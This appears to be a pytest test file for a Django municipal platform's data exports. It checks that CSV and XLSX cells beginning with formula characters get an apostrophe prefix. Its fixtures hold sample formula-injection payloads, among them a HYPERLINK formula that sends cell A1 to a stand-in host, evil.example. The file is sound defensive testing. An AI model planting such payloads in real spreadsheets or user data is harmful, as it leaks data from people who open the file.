"""Spreadsheet exports: text that a spreadsheet would run as a formula is neutralised."""

import csv
import io
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils.translation import gettext_lazy

from hromada.appeals.models import Appeal, Category
from hromada.budget import pabulib
from hromada.budget import services as budget_services
from hromada.budget.models import Project
from hromada.core import registry
from hromada.core.exports import csv_response, safe_cell
from hromada.petitions.models import Topic
from tests.appeals.conftest import report
from tests.budget.helpers import draft, make_category, make_cycle
from tests.factories import client_for, make_resident, make_staff
from tests.petitions.conftest import make_collecting

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE = [HYPERLINK, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-2, -12.5, Decimal("-0.5"), 0, 3, None, True])
def test_numbers_and_empty_cells_stay_as_they_are(value):
    assert safe_cell(value) is value


def test_plain_and_lazy_text():
    assert safe_cell("вул. Миру, 5") == "вул. Миру, 5"
    assert safe_cell("a=1") == "a=1"  # only the first character matters
    assert safe_cell(gettext_lazy("-5")) == "'-5"


def test_a_big_export_is_streamed_and_neutralised_too():
    """Past the first piece the rows are streamed, each cell still made safe."""
    rows = ({"n": -number, "title": f"=A{number}"} for number in range(5))
    response = csv_response(rows, fields=["n", "title"], name="big", rows_at_once=2)
    assert isinstance(response, StreamingHttpResponse)
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    parsed = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert parsed[0] == ["n", "title"]
    assert parsed[1:] == [[str(-n), f"'=A{n}"] for n in range(5)]


# Every declared export, downloaded as a resident would -----------------------


@pytest.fixture
def hostile_petition(community):
    """A published petition with a formula for a title and an author named like one."""
    moderator = make_staff(community, "moderator")
    topic = Topic.objects.create(community=community, name="Транспорт і дороги")
    author = make_resident(community, full_name="\t=1")
    return make_collecting(community, author, topic, moderator, title=HYPERLINK)


@pytest.fixture
def hostile_project(community):
    """A submitted budget project, with a longitude west of Greenwich (a number)."""
    category = make_category(make_cycle(community))
    author = make_resident(community, full_name="\r=1")
    project = draft(
        author, category, title="+1", address="-2+3", description="@SUM(A1) лавки й ліхтарі"
    )
    budget_services.submit_project(resident=author, project=project)
    # No community lies there: the row is changed by hand to have a negative number.
    Project.objects.filter(pk=project.pk).update(lon=-0.5)
    return project


@pytest.fixture
def hostile_appeal(community):
    from hromada.appeals import services

    services.install_default_categories(community=community)
    categories = {c.service_code: c for c in Category.objects.filter(community=community)}
    appeal = report(
        community,
        categories,
        make_resident(community),
        address="-2+3",
        description="@SUM(A1) не світить ліхтар",
    )
    Appeal.objects.filter(pk=appeal.pk).update(lon=-0.5)
    return appeal


@pytest.fixture
def hostile_visit(community):
    """A visit served at the service centre, for a service named like a formula."""
    from hromada.cnap.models import QueueEvent, Ticket
    from tests.cnap.conftest import at, make_office, make_service

    office = make_office(community)
    service = make_service(community, HYPERLINK, "00001")
    ticket = Ticket.objects.create(
        community=community, office=office, day=at(-1, 0).date(), series="А", number=1,
        service=service, status=Ticket.Status.DONE, outcome=Ticket.Outcome.SERVED,
    )  # fmt: skip
    for action, minute in [("issued", 0), ("called", 5), ("finished", 12)]:
        QueueEvent.objects.create(
            community=community, office=office, ticket=ticket, service=service, action=action,
            outcome="served" if action == "finished" else "", at=at(-1, 10, minute),
        )  # fmt: skip
    return ticket


@pytest.fixture
def hostile_consultation(community):
    """An announced consultation whose title and body a spreadsheet would run."""
    from hromada.consultations import services as consultation_services
    from hromada.consultations.models import Consultation
    from hromada.core.models import StaffRole
    from tests.consultations.conftest import DRAFT_TEXT, make_consultation

    moderator = make_staff(community, StaffRole.Role.MODERATOR)
    consultation = make_consultation(
        community, moderator, Consultation.Kind.DRAFT, title="-2+3", body="@SUM(A1)"
    )
    consultation_services.publish_version(
        actor=moderator, consultation=consultation, text=DRAFT_TEXT
    )
    return consultation_services.announce_consultation(actor=moderator, consultation=consultation)


def _csv_exports():
    """Return (export name, URL) of every CSV data set the enabled modules declare."""
    return [
        (export.name, reverse(f"{declared.name}:open_data") + "?format=csv")
        for declared in registry.modules()
        for export in declared.exports
    ]


def _download(url: str) -> list[dict]:
    response = client_for().get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = getattr(response, "content", None) or b"".join(response.streaming_content)
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.django_db
def test_no_export_has_a_cell_a_spreadsheet_would_run(
    community,
    hostile_petition,
    hostile_project,
    hostile_appeal,
    hostile_visit,
    hostile_consultation,
):
    """Every declared CSV export: hostile text comes out quoted, numbers stay numbers."""
    exports = _csv_exports()
    assert {name for name, _url in exports} >= {
        "e-petitions",
        "public-budget",
        "hotline-appeals",
        "administrative-services",
        "public-consultations",
    }
    seen = set()
    negative_longitudes = 0
    for name, url in exports:
        rows = _download(url)
        assert rows, name
        for row in rows:
            for column, cell in row.items():
                # A negative number is the one thing that may start with "-".
                if cell.startswith(FORMULA_STARTS):
                    assert _is_number(cell), (name, column, cell)
                seen.add(cell)
            if row.get("longitude") == "-0.5":
                negative_longitudes += 1
    # The hostile values did reach the exports, each with its apostrophe.
    for text in HOSTILE:
        assert any(cell.startswith("'" + text) for cell in seen), text
    assert negative_longitudes == 2  # the project and the appeal


def test_pabulib_files_keep_their_data_as_written():
    """A .pb file is data for other tools, not a spreadsheet: titles round-trip unchanged."""
    text = (
        "META\nkey;value\nbudget;100\nvote_type;approval\n"
        f"PROJECTS\nproject_id;cost;name\n1;60;{HYPERLINK.replace(chr(34), '')}\n2;40;-2+3\n"
        "VOTES\nvoter_id;vote\nv1;1,2\n"
    )
    election = pabulib.parse(text)
    again = pabulib.parse(pabulib.dumps(election))
    assert [p.fields.get("name") for p in again.projects] == [
        HYPERLINK.replace('"', ""),
        "-2+3",
    ]


def test_an_xlsx_download_is_neutralised_and_keeps_numbers():
    """The XLSX writer passes every cell through safe_cell, like the CSV one."""
    from openpyxl import load_workbook

    from hromada.core.exports import XLSX_TYPE, xlsx_response

    rows = [{"n": -12.5, "title": text} for text in HOSTILE] + [
        {"n": 3, "title": "вул. Миру, 5\x01"}
    ]
    response = xlsx_response(rows, fields=["n", "title"], name="hostile", sheet="Звіт: [1]")
    assert response["Content-Type"] == XLSX_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="hostile.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Звіт   1 "
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("n", "title")
    # XML reads a carriage return back as a line feed; the apostrophe is what matters.
    assert values[1:-1] == [(-12.5, "'" + text.replace("\r", "\n")) for text in HOSTILE]
    assert values[-1] == (3, "вул. Миру, 5")  # a control character XLSX cannot hold is dropped
    assert {sheet.cell(row=row, column=2).data_type for row in range(2, len(values) + 1)} == {"s"}
